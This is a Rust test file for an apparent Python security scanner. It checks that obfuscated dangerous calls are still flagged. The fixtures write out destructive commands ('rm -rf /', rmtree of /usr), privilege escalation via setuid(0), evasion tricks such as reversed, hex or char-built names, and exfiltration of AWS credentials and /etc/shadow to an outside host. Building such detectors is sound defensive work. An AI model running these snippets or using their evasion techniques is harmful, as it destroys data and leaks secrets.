//! Name resolution the way Python does it: star imports, rebinding, dynamic lookups.

use super::*;

#[test]
fn star_import_brings_known_names() {
    // `from subprocess import *` makes Popen resolvable.
    fires(
        "CRD301",
        "from subprocess import *\nPopen(cmd, shell=True)\n",
    );
}

#[test]
fn rebinding_modules_and_functions() {
    // `m = os; m.system(x)` and `f = os.system; f(x)` resolve to os.system.
    fires("CRD301", "import os\nm = os\nm.system(cmd)\n");
    fires("CRD301", "import os\nf = os.system\nf(cmd)\n");
    fires("CRD301", "import os as o\nrun = o.popen\nrun(cmd)\n");
}

#[test]
fn dynamic_lookups_with_constants() {
    // sys.modules, importlib, __import__, vars() and reversed strings all fold.
    fires("CRD202", "import sys\nsys.modules['os'].setuid(0)\n");
    fires(
        "CRD202",
        "import importlib\nimportlib.import_module('posix').setuid(0)\n",
    );
    fires("CRD202", "__import__('os').setuid(0)\n");
    fires("CRD202", "import os\ngetattr(os, 'diutes'[::-1])(0)\n");
    fires(
        "CRD202",
        "import os\ngetattr(os, bytes.fromhex('736574756964').decode())(0)\n",
    );
    fires(
        "CRD303",
        "import builtins\nvars(builtins)['ex' + 'ec'](code)\n",
    );
    fires(
        "CRD202",
        "import os\nname = chr(115) + 'etuid'\ngetattr(os, name)(0)\n",
    );
}

#[test]
fn function_parameters_shadow_modules() {
    // A parameter named like a module is not the module inside the function.
    silent("CRD202", "import os\ndef f(os):\n    os.setuid(0)\n");
}

#[test]
fn no_suppression_comments() {
    // `# nosec` and `# noqa` change nothing.
    fires("CRD202", "import os\nos.setuid(0)  # nosec\n");
    fires("CRD202", "import os\nos.setuid(0)  # noqa: S606\n");
}

#[test]
fn strings_folded_as_python_computes_them() {
    // translate/maketrans, int.to_bytes and reduce(getattr, ...) fold before the sink.
    fires(
        "CRD104",
        "import os\nos.system('ez -es /'.translate(str.maketrans('ezs', 'rmf')))\n",
    );
    fires(
        "CRD103",
        "m = (0x6f73).to_bytes(2, 'big').decode()\nexec(m)\n",
    );
    fires(
        "CRD104",
        "import functools, shutil\nfunctools.reduce(getattr, ['rmtree'], shutil)('/usr')\n",
    );
    fires(
        "CRD209",
        "import ast\nexec(compile(ast.parse(\"__import__('os').system('id')\"), 'x', 'exec'))\n",
    );
}

#[test]
fn objects_that_take_in_secrets_hold_them() {
    // A config parser reading a credential file, or a list given a secret, carries it.
    fires(
        "CRD109",
        "import configparser, requests\nc = configparser.ConfigParser()\nc.read('/root/.aws/credentials')\nrequests.post('https://x', data=c['default']['k'])\n",
    );
    fires(
        "CRD109",
        "import requests\nparts = []\nparts.append(open('/etc/shadow').read())\nrequests.post('https://x', json=parts)\n",
    );
}

#[test]
fn dicts_with_known_keys_fold() {
    // A value kept in a dict literal reaches its sink through d[k] and d.get(k).
    fires(
        "CRD104",
        "import os\nd = {'c': 'rm -rf /'}\nos.system(d['c'])\n",
    );
    fires(
        "CRD209",
        "d = {1: \"__import__('os').system('id')\"}\neval(d.get(1))\n",
    );
    silent(
        "CRD303",
        "d = {'f': '2 * 3'}\nprint({k: eval(v) for k, v in d.items()})\n",
    );
}

#[test]
fn percent_formatting_with_a_mapping_folds() {
    // `"%(flags)s %(dir)s" % {...}` takes each field from the dict.
    fires(
        "CRD104",
        "import os\nos.system('rm %(f)s %(d)s' % {'f': '-rf', 'd': '/usr'})\n",
    );
}
